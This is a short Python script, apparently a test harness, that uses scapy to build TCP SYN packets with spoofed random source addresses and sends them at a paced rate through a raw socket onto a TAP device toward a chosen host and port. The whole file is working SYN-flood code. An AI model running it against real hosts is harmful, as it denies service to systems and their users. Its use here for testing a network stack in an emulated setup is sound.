"""A bounded SYN flood from addresses that never answer, sent from Linux onto a TAP device.

usage: syn_flood.py IFACE LINUX_MAC HOST_MAC HOST_IP PORT COUNT RATE SECONDS

Builds COUNT SYNs from random sources in 10.0.2.100-250 (nobody there answers ARP, so no
handshake ever completes), prints "flooding", sends them through a packet socket at about RATE
a second until all are sent or SECONDS have passed, and prints "sent N". (Unpaced, a TAP
device's queue drops most of a flood before the host behind it reads it.)
"""
import random
import socket
import sys
import time

from scapy.all import IP, TCP, Ether

iface, linux_mac, host_mac, host_ip = sys.argv[1:5]
port, count, rate, seconds = int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7]), float(sys.argv[8])
rnd = random.Random(7)
frames = [bytes(Ether(src=linux_mac, dst=host_mac)
                / IP(src="10.0.2.%d" % rnd.randint(100, 250), dst=host_ip)
                / TCP(sport=rnd.randint(1024, 65535), dport=port, flags="S", seq=rnd.getrandbits(32), window=64240))
          for _ in range(count)]
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((iface, 0))
print("flooding", flush=True)
start = time.monotonic()
deadline = start + seconds
sent = 0
for frame in frames:
    now = time.monotonic()
    if now >= deadline:
        break
    ahead = sent / rate - (now - start)
    if ahead > 0.005:
        time.sleep(ahead)
    try:
        out.send(frame)
        sent += 1
    except BlockingIOError:  # the TAP device's queue is full for a moment
        time.sleep(0.001)
print("sent %d" % sent, flush=True)
